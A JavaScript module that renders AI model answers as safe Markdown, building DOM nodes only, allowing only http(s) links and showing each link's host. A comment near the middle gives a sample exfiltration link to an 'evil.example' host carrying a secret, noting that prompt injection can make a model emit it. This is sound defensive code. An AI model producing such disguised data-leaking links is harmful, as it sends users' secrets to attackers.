// Minimal Markdown for model answers, built from DOM nodes and textContent
// only. Model output is untrusted (a prompt can inject anything into it), so
// nothing here ever parses it as HTML: a "<script>" in an answer is shown as
// the text "<script>". Links are made only for http(s) URLs; any other
// scheme (javascript:, data:, ...) stays plain text. Images are never loaded.
//
// Supported: paragraphs, line breaks, # headings (shown as h3-h5), - / * / 1.
// lists, ``` code blocks, `code`, **bold**, *italic*, [text](https://...).
//
// Parsing (markdownBlocks, inlineTokens) is pure and runs in Node's unit
// tests; renderMarkdown only turns its result into nodes.

// Answers are re-rendered on every streamed chunk, so every alternative must
// run in linear time: no part may match the character that starts another
// try ("[" in a link's text, "(" in its URL), or a line of "[[[[" costs
// quadratic time.
const INLINE = /(`[^`\n]+`)|(\*\*[^*\n]+\*\*)|(\*[^*\n]+\*)|(\[([^\[\]\n]*)\]\(([^()\s]*)\))/g;

function httpUrl(url) {
    try {
        const parsed = new URL(url);
        return parsed.protocol === "https:" || parsed.protocol === "http:" ? parsed : null;
    } catch {
        return null;
    }
}

// A link's text may hide where it goes ("[Antrag einreichen](https://evil.
// example/?d=<secret>)" sends whatever the model put into the URL to that
// host when clicked), so the host is shown after it unless the text already
// says it.
function linkTokens(whole, text, url) {
    const parsed = httpUrl(url);
    if (parsed === null) {
        return [{ kind: "text", text: whole }];
    }
    const link = { kind: "link", text: text || parsed.href, href: parsed.href };
    const shown = text.trim().toLowerCase();
    const saysWhere = text === "" || [url, parsed.href, parsed.host]
        .some((place) => place.toLowerCase() === shown);
    return saysWhere ? [link] : [link, { kind: "text", text: ` (${parsed.host})` }];
}

// The inline pieces of one line, in order: { kind, text } with kind "text",
// "code", "strong" or "em", and { kind: "link", text, href } (href an http
// or https URL).
export function inlineTokens(line) {
    const tokens = [];
    let position = 0;
    for (const match of line.matchAll(INLINE)) {
        if (match.index > position) {
            tokens.push({ kind: "text", text: line.slice(position, match.index) });
        }
        const [whole, code, strong, emphasis, link, linkText, url] = match;
        if (code) {
            tokens.push({ kind: "code", text: whole.slice(1, -1) });
        } else if (strong) {
            tokens.push({ kind: "strong", text: whole.slice(2, -2) });
        } else if (emphasis) {
            tokens.push({ kind: "em", text: whole.slice(1, -1) });
        } else if (link) {
            tokens.push(...linkTokens(whole, linkText, url));
        }
        position = match.index + whole.length;
    }
    if (position < line.length) {
        tokens.push({ kind: "text", text: line.slice(position) });
    }
    return tokens;
}

const FENCE = /^\s*```/;
const HEADING = /^(#{1,6})\s+([\s\S]*)$/;
const LIST_MARK = /^\s*([-*]|\d+[.)])\s+/;

function listKind(line) {
    if (/^\s*[-*]\s+/.test(line)) {
        return "ul";
    }
    return /^\s*\d+[.)]\s+/.test(line) ? "ol" : null;
}

// Lines between blank lines: a list when every line is an item of the same
// kind, else a paragraph whose lines keep their breaks.
function lineBlock(lines) {
    const kind = listKind(lines[0]);
    if (kind !== null && lines.every((line) => listKind(line) === kind)) {
        return { kind, items: lines.map((line) => line.replace(LIST_MARK, "")) };
    }
    return { kind: "paragraph", lines };
}

// The blocks of an answer, in order:
//   { kind: "heading", level (3-6), text }
//   { kind: "ul" | "ol", items: [text] }
//   { kind: "paragraph", lines: [text] }
//   { kind: "code", text }  (a fence left open runs to the end)
export function markdownBlocks(text) {
    const blocks = [];
    let lines = [];
    let code = null;
    const flush = () => {
        if (lines.length > 0) {
            blocks.push(lineBlock(lines));
        }
        lines = [];
    };
    for (const line of text.split(/\r?\n/)) {
        if (code !== null) {
            if (FENCE.test(line)) {
                blocks.push({ kind: "code", text: code.join("\n") });
                code = null;
            } else {
                code.push(line);
            }
        } else if (FENCE.test(line)) {
            flush();
            code = [];
        } else if (line.trim() === "") {
            flush();
        } else if (HEADING.test(line)) {
            flush();
            const [, marks, heading] = line.match(HEADING);
            blocks.push({ kind: "heading", level: Math.min(marks.length + 2, 6), text: heading });
        } else {
            lines.push(line);
        }
    }
    flush();
    if (code !== null) {
        blocks.push({ kind: "code", text: code.join("\n") });
    }
    return blocks;
}

// The answer as plain text without Markdown marks, one line per heading,
// list item or line (what a screen reader should read: no "**" or "#").
export function plainText(text) {
    const words = (line) => inlineTokens(line).map((token) => token.text).join("");
    return markdownBlocks(text).flatMap((block) => {
        if (block.kind === "code") {
            return [block.text];
        }
        if (block.kind === "heading") {
            return [words(block.text)];
        }
        return (block.items ?? block.lines).map(words);
    }).join("\n").trim();
}

// --- DOM ---------------------------------------------------------------------

function inlineNode(token) {
    if (token.kind === "text") {
        return document.createTextNode(token.text);
    }
    const node = document.createElement(token.kind === "link" ? "a" : token.kind);
    node.textContent = token.text;
    if (token.kind === "link") {
        node.href = token.href;
        node.rel = "noopener noreferrer nofollow";
        node.target = "_blank";
    }
    return node;
}

function appendInline(parent, line) {
    parent.append(...inlineTokens(line).map(inlineNode));
}

function blockNode(block) {
    if (block.kind === "code") {
        const pre = document.createElement("pre");
        const code = document.createElement("code");
        code.textContent = block.text;
        pre.append(code);
        return pre;
    }
    if (block.kind === "heading") {
        const heading = document.createElement(`h${block.level}`);
        appendInline(heading, block.text);
        return heading;
    }
    if (block.kind === "ul" || block.kind === "ol") {
        const list = document.createElement(block.kind);
        for (const text of block.items) {
            const item = document.createElement("li");
            appendInline(item, text);
            list.append(item);
        }
        return list;
    }
    const paragraph = document.createElement("p");
    block.lines.forEach((line, index) => {
        if (index > 0) {
            paragraph.append(document.createElement("br"));
        }
        appendInline(paragraph, line);
    });
    return paragraph;
}

// Replaces container's children with the rendering of text.
export function renderMarkdown(container, text) {
    container.replaceChildren(...markdownBlocks(text).map(blockNode));
}
